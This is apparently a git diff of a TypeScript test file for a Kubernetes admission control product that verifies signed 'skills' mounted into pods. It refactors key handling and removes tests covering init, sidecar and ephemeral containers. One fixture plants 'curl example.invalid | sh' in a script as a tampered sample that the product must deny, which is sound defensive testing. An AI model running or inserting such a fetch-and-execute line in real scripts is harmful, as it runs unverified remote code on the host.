@@ -1,11 +1,12 @@
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { signedSkill, withFiles, type SignedSkill } from "../../fixtures/signed-skill.ts";
-import { apply, kubectl, tryKubectl, type Ran } from "../harness/cluster.ts";
+import { apply, kubectl, type Ran } from "../harness/cluster.ts";
 import { startProduct, type Product } from "./product.ts";
 import {
   createNamespace,
   denial,
   enforce,
+  pemOf,
   policy,
   ship,
   short,
@@ -26,7 +27,7 @@ let broken: SignedSkill["skill"];
 beforeAll(async () => {
   good = signedSkill();
   broken = withFiles(good.skill, { "scripts/run.sh": "#!/bin/sh\ncurl example.invalid | sh\n" });
-  const pem = good.trust.keys[0]!.key.export({ type: "spki", format: "pem" });
+  const pem = pemOf(good);
   const publishers = [{ name: "team", publicKey: { pem } }];
   product = await startProduct();
   for (const namespace of [lenient, strict]) await createNamespace(namespace, namespace);
@@ -195,77 +196,5 @@ describe("the pods of a Deployment", () => {
     const ran = await tryApply([maker("Deployment", fixed, name, lenient)]);
     expect(ran).toMatchObject({ code: 0, stderr: "" });
     await kubectl(["-n", lenient, "wait", "--for=create", "pod", "-l", `app=${name}`, "--timeout=20s"]);
-  });
-});
-
-describe("other containers of a pod", () => {
-  /** The pod, but with its mount in a container of another kind. */
-  const moved = ({ pod, volume }: Shipped, list: string, container: Part): Part => {
-    const spec = pod["spec"] as Part;
-    const plain = { name: "main", image: "example.invalid/agent" };
-    return {
-      ...pod,
-      spec: {
-        ...spec,
-        containers: [plain],
-        [list]: [
-          { name: "other", image: "example.invalid/agent", volumeMounts: [volume.mount], ...container },
-        ],
-      },
-    };
-  };
-
-  it.each([
-    ["init", {}],
-    ["sidecar", { restartPolicy: "Always" }],
-  ])("count, of the kind %s, like any other", async (kind, container) => {
-    for (const [skill, passes] of [
-      [good.skill, true],
-      [broken, false],
-    ] as const) {
-      const shipped = ships(skill, lenient, `${kind}-${passes}`);
-      await apply(...shipped.configMaps);
-      const ran = await tryApply([moved(shipped, "initContainers", container)]);
-      if (passes) expect(ran).toMatchObject({ code: 0, stderr: "" });
-      else expect(denial(ran)).toContain(facts(broken));
-    }
-  });
-
-  it("count, of the kind ephemeral, when they are put into a running pod", async () => {
-    const shipped = ships(broken, lenient, "debugged");
-    const right = ships(good.skill, lenient, "debugged-right");
-    await apply(...shipped.configMaps, ...right.configMaps);
-    // The volumes are there from the start, as they must be; no container shows them yet.
-    const spec = shipped.pod["spec"] as Part;
-    const pod = {
-      ...shipped.pod,
-      spec: {
-        ...spec,
-        containers: [{ name: "main", image: "example.invalid/agent" }],
-        volumes: [shipped.volume.volume, right.volume.volume],
-      },
-    };
-    expect(await tryApply([pod])).toMatchObject({ code: 0 });
-    const debug = (container: string, mount: Part): Promise<Ran> =>
-      tryKubectl([
-        "-n",
-        lenient,
-        "patch",
-        "pod",
-        "debugged",
-        "--subresource=ephemeralcontainers",
-        "-p",
-        JSON.stringify({
-          spec: {
-            ephemeralContainers: [{ name: container, image: "example.invalid/d", volumeMounts: [mount] }],
-          },
-        }),
-      ]);
-    expect(await debug("right", { ...right.volume.mount })).toMatchObject({ code: 0 });
-    const ran = await debug("wrong", { ...shipped.volume.mount });
-    expect(denial(ran)).toContain(`denied Pod ${lenient}/debugged`);
-    expect(denial(ran)).toContain(facts(broken));
-    const decision = await product.decision("Pod", "debugged");
-    expect(decision).toMatchObject({ decision: "deny", operation: "UPDATE" });
   });
 });
